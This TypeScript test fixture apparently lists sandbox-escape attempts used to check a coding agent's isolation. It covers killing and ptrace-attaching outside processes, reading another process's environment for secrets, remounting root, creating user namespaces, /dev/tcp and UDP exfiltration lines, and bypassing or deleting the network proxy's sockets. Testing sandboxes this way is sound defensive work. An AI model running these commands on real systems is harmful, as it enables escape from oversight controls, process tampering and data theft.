import { type Attack, call, python, sh } from './sandbox-attack.fixture.ts';

const CLONE_NEWUSER = '0x10000000';
const SIGCHLD = 17;

/** Ways to reach other processes. */
export const PROCESS_ATTACKS: readonly Attack[] = [
  sh('kill a process outside', 'kill -9 $PREY'),
  python('kill a process group outside', `os.killpg(int(env['PACK']), 9)`),
  sh('environment of a process outside', 'grep -q SECRET /proc/$VICTIM/environ'),
  python('memory of a process outside', `os.open('/proc/%s/mem' % env['VICTIM'], os.O_RDWR)`),
  python('ptrace of a process outside', `
assert libc.ptrace(16, int(env['VICTIM']), 0, 0) == 0
os.waitpid(int(env['VICTIM']), 0x40000000)
assert libc.ptrace(17, int(env['VICTIM']), 0, 0) == 0`),
  python('ptrace of a child', `
child = os.fork()
if child == 0:
    signal.pause()
    os._exit(0)
attached = libc.ptrace(16, child, 0, 0)
os.kill(child, 9)
assert attached == 0`),
  python('memory of a child, by process_vm_readv', `
child = os.fork()
if child == 0:
    signal.pause()
    os._exit(0)
buffer = ctypes.create_string_buffer(8)
part = struct.pack('PN', ctypes.addressof(buffer), 8)
try:
    call('process_vm_readv', child, part, 1, part, 1, 0)
finally:
    os.kill(child, 9)`),
  python('descriptor of a process outside', `call('pidfd_getfd', call('pidfd_open', int(env['VICTIM']), 0), 9, 0)`),
  python('descriptor of a child', `
child = os.fork()
if child == 0:
    signal.pause()
    os._exit(0)
try:
    call('pidfd_getfd', call('pidfd_open', child, 0), 1, 0)
finally:
    os.kill(child, 9)`),
  python('System V shared memory of the host', `
libc.shmat.restype = ctypes.c_void_p
at = libc.shmat(int(env['SHM']), None, 0)
assert at not in (None, ctypes.c_void_p(-1).value)
ctypes.memmove(at, b'taken', 5)
assert ctypes.string_at(at, 5) == b'taken'`),
  python('message queue of the host', `
libc.mq_open = ctypes.CDLL('librt.so.1', use_errno=True).mq_open
queue = libc.mq_open(('/' + env['QUEUE']).encode(), os.O_WRONLY)
assert queue >= 0`),
];

/** Ways to other mounts, other users' rights and rarely used parts of the kernel. */
export const KERNEL_ATTACKS: readonly Attack[] = [
  sh('remount / writable', 'mount -o remount,bind,rw /'),
  python('remount / writable, by the call', `call('mount', b'none', b'/', None, 0x1020, None)`),
  sh('mount a file system', 'mkdir -p $TMPDIR/mnt; mount -t tmpfs none $TMPDIR/mnt && umount $TMPDIR/mnt'),
  sh('bind an outside folder', 'mkdir -p $TMPDIR/bind; mount --bind $OUT $TMPDIR/bind && echo x > $TMPDIR/bind/bound && umount $TMPDIR/bind'),
  sh('unmount', 'umount -l $WORK/.git || { mkdir -p $TMPDIR/u && mount --bind $TMPDIR/u $TMPDIR/u && umount $TMPDIR/u; }'),
  python('mount attributes', `call('mount_setattr', AT_FDCWD, b'/', 0, struct.pack('QQQQ', 0, 0, 0, 0), 32) if os.geteuid() == 0 else None\nassert os.geteuid() == 0`),
  call('clone a mount tree', 'open_tree', `AT_FDCWD, text('OUT', ''), 1`),
  call('new mount interface', 'fsopen', `b'tmpfs', 0`),
  sh('chroot', 'chroot / true'),
  python('pivot_root', `
call('unshare', 0x20000)
os.makedirs(env['TMPDIR'] + '/pivot/old', exist_ok=True)
call('mount', b'none', b'/', None, 0x44000, None)
call('mount', text('TMPDIR', '/pivot'), text('TMPDIR', '/pivot'), None, 0x1000, None)
call('pivot_root', text('TMPDIR', '/pivot'), text('TMPDIR', '/pivot/old'))`),
  sh('mount namespace', 'unshare -m true'),
  sh('user namespace', 'unshare -Ur true'),
  sh('network namespace in a user namespace', 'unshare -Urn true'),
  call('user namespace, by unshare', 'unshare', CLONE_NEWUSER),
  python('user namespace, by clone', `
child = call('clone', ${CLONE_NEWUSER} | ${SIGCHLD}, 0, 0, 0, 0)
if child == 0:
    os._exit(0)
os.waitpid(child, 0)`),
  python('user namespace, by clone3', `
child = call('clone3', struct.pack('11Q', ${CLONE_NEWUSER}, 0, 0, 0, ${SIGCHLD}, 0, 0, 0, 0, 0, 0), 88)
if child == 0:
    os._exit(0)
os.waitpid(child, 0)`),
  python('join the namespace of a process outside', `call('setns', os.open('/proc/%s/ns/mnt' % env['VICTIM'], os.O_RDONLY), 0)`),
  python('join its own user namespace', `call('setns', os.open('/proc/self/ns/uts', os.O_RDONLY), 0)`),
  sh('set-uid program', 'test "$($OUT/../suid-id -u)" = 0 && test "$(id -u)" != 0'),
  sh('privileges to be had', 'grep -q "^NoNewPrivs:.*0" /proc/self/status'),
  sh('no filter', 'grep -q "^Seccomp:.*0" /proc/self/status'),
  sh('capabilities', 'grep -q "^Cap[EP].*[1-9a-f]$" /proc/self/status'),
  python('another user', `os.setgroups([]); os.setresuid(1, 1, 1)`),
  call('io_uring', 'io_uring_setup', '4, ctypes.create_string_buffer(120)'),
  call('userfaultfd', 'userfaultfd', '1'),
  call('kernel keyring', 'add_key', `b'user', b'codex-ts-attack', b'x', 1, -3`),
  call('read of the kernel keyring', 'keyctl', '0, -3, 0'),
  call('bpf', 'bpf', `0, struct.pack('IIIII', 2, 4, 4, 1, 0) + bytes(108), 128`),
  call('performance counters', 'perf_event_open', `struct.pack('IIQ', 1, 112, 0) + bytes(24) + struct.pack('Q', 0x61) + bytes(64), 0, -1, -1, 0`),
  call('kernel log', 'syslog', '3, ctypes.create_string_buffer(16), 16'),
  call('host name', 'sethostname', `os.uname().nodename.encode(), len(os.uname().nodename)`),
  call('fanotify', 'fanotify_init', '0, 0'),
  sh('priority', 'nice -n -5 true 2>&1 | grep -q . && exit 1; test "$(nice -n -5 nice)" = -5'),
  python('calls of the 32-bit interface', `
import mmap, platform
assert platform.machine() == 'x86_64'
code = mmap.mmap(-1, 4096, prot=7)
code.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3')
assert ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))() == os.getpid()`),
  python('calls of the x32 interface', `assert libc.syscall(0x40000000 + 39) > 0`),
];

const offline: Partial<Attack> = { allowed: ({ network }) => network === 'free' };
/** Harmless in a network of its own. */
const socketless: Partial<Attack> = { allowed: ({ network }) => network !== 'none' };
const connect = (to: string) => `socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect(${to})`;

/** Ways to other programs and machines. */
export const NETWORK_ATTACKS: readonly Attack[] = [
  python('TCP to this machine', connect(`('127.0.0.1', int(env['TCP']))`), offline),
  python('TCP to an address of this machine', connect(`(env['LAN'], int(env['TCP']))`), offline),
  sh('TCP, by the shell', "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$TCP'", offline),
  python('UDP, as a name is asked for', `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret.example.com', ('127.0.0.1', int(env['UDP'])))`, offline),
  python('UDP to another machine', `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret.example.com', ('192.0.2.53', 53))`, offline),
  python('IPv6', `socket.socket(socket.AF_INET6, socket.SOCK_STREAM)`, socketless),
  python('TCP fast open', `socket.socket(socket.AF_INET, socket.SOCK_STREAM).sendto(b'x', 0x20000000, ('127.0.0.1', int(env['TCP'])))`, offline),
  python('listen', `
server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
server.bind(('127.0.0.1', 0))
server.listen()`, socketless),
  python('socket file of the host', `socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(env['UNIX'])`, offline),
  python('socket file of the host, datagram', `socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', env['UNIX'] + '.dgram')`, offline),
  python('socket file of the host, from a pair', `socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendmsg([b'x'], [], 0, env['UNIX'] + '.dgram')`, offline),
  python('abstract socket of the host', `socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect('\\0' + env['ABSTRACT'])`, offline),
  python('socket file of its own, outside', `socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).bind(env['OUT'] + '/made.sock')`),
  python('netlink', `socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)`, offline),
  python('raw packets', `socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)`),
  python('link layer', `socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)`),
  python('virtual machine sockets', `socket.socket(40, socket.SOCK_STREAM)`),
  python('crypto sockets', `socket.socket(38, socket.SOCK_SEQPACKET)`),
  python('the proxy, asked for this machine', `
where = env['HTTP_PROXY'].rsplit(':', 1)[1]
asked = socket.create_connection(('127.0.0.1', int(where)))
asked.sendall(b'CONNECT 127.0.0.1:%d HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n' % (int(env['TCP']), int(env['TCP'])))
assert b' 200 ' in asked.recv(100)`),
  python('the proxy, asked for a host that no rule names', `
where = env['HTTP_PROXY'].rsplit(':', 1)[1]
asked = socket.create_connection(('127.0.0.1', int(where)))
asked.sendall(b'GET http://192.0.2.1/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n')
assert asked.recv(100)[9:10] not in (b'', b'4')`),
  python('the proxy, asked by SOCKS', `
where = env['ALL_PROXY'].rsplit(':', 1)[1]
asked = socket.create_connection(('127.0.0.1', int(where)))
asked.sendall(b'\\x05\\x01\\x00')
assert asked.recv(2) == b'\\x05\\x00'
asked.sendall(b'\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01' + struct.pack('>H', int(env['TCP'])))
assert asked.recv(2) == b'\\x05\\x00'`),
  sh("the proxy's sockets", 'for file in $CODEX_HOME/tmp/*/*/*.sock $CODEX_HOME/tmp/*/*.sock; do test -S $file && rm $file && break; done'),
  python("the proxy's sockets, by name", `
import glob
socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect((glob.glob(env['CODEX_HOME'] + '/tmp/**/*.sock', recursive=True) + ['/none'])[0])`),
  sh('tunnel device', 'test -c /dev/net/tun && : <> /dev/net/tun'),
];
